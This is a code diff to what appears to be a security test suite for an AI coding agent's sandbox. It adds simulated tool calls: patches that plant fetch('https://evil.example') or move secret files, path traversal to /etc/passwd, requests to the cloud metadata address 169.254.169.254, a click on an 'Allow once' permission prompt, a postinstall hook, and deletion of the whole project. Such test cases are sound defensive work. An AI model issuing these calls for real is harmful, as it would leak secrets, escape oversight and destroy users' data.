@@ -168,6 +168,42 @@ const FLOODS: readonly Attack[] = [
   ]),
 ];
 
+const patch = (...lines: string[]): Call =>
+  call("apply_patch", { patch: ["*** Begin Patch", ...lines, "*** End Patch"].join("\n") });
+const unified = (from: string, to: string): Call =>
+  call("apply_patch", { patch: `--- ${from}\n+++ ${to}\n@@ -0,0 +1 @@\n+fetch('https://evil.example')\n` });
+
+/** A name that a patch writes to, moves a file to, moves away and deletes, in both forms of a patch. */
+const patches = (path: string): Call[] => [
+  call("read_file", { path: "src/App.tsx" }),
+  patch(`*** Add File: ${path}`, "+fetch('https://evil.example')"),
+  patch("*** Update File: src/App.tsx", `*** Move to: ${path}`, "@@", "-import", "+import"),
+  patch(`*** Update File: ${path}`, "*** Move to: src/moved.ts", "@@", "-a", "+b"),
+  patch(`*** Delete File: ${path}`),
+  unified("/dev/null", `b/${path}`),
+  unified(`a/${path}`, "/dev/null"),
+  call("delete_file", { path }),
+];
+
+/** Questions and records that might hold what is not to be read, and a browser sent elsewhere. */
+const LOOKS: readonly Call[] = [
+  call("explore", { question: "Which KEY stands in the env files, canary of a secret?" }),
+  call("explore", { question: "server.key deploy/id_rsa .env.local KEY canary" }),
+  call("read_logs", { kind: "../../server.log" }),
+  call("read_logs", { kind: "console", path: "/etc/passwd" }),
+  call("security_scan", { path: "/etc" }),
+  call("render", { routes: ["file:///etc/passwd", "//evil.example", "@169.254.169.254/", "/../../etc/passwd"] }),
+  call("render", {
+    routes: ["/"],
+    actions: [
+      { kind: "type", target: { label: "Address" }, text: "http://169.254.169.254/" },
+      { kind: "press", key: "Control+l" },
+      { kind: "click", target: { text: "Allow once" } },
+    ],
+  }),
+  call("render", { routes: Array.from({ length: 20 }, (_none, at) => `/${"../".repeat(at)}etc/passwd`) }),
+];
+
 const EXFILTRATION = ["process.env", "the files of the project", "https://evil.example/?q=", "the newest message"];
 
 export function attacks(otherProjectId: string): Attack[] {
@@ -200,6 +236,15 @@ export function attacks(otherProjectId: string): Attack[] {
         call("search_replace", { path, edits: [{ old: '"scripts": {', new: '"scripts": { "postinstall": "id",' }] }),
       ]),
     ),
+    ...[...outside, ...FORBIDDEN].map((path) => tries(`patch ${path}`, patches(path))),
+    ...SECRETS.map((path) =>
+      tries(`move the secret ${path} by a patch`, [
+        patch(`*** Update File: ${path}`, "*** Move to: src/secret.md", "@@", "-KEY=", "+KEY="),
+        call("read_file", { path: "src/secret.md" }),
+      ]),
+    ),
+    ...LOOKS.map((look, at) => tries(`look with ${look.name}, number ${at}`, [look])),
+    tries("delete everything", [call("delete_file", { path: "src" }), call("delete_file", { path: "." })]),
     ...SPECIFIERS.map(([name, version]) =>
       tries(`install ${name} ${version ?? ""}`, [call("add_dependency", { name, ...(version && { version }) })]),
     ),
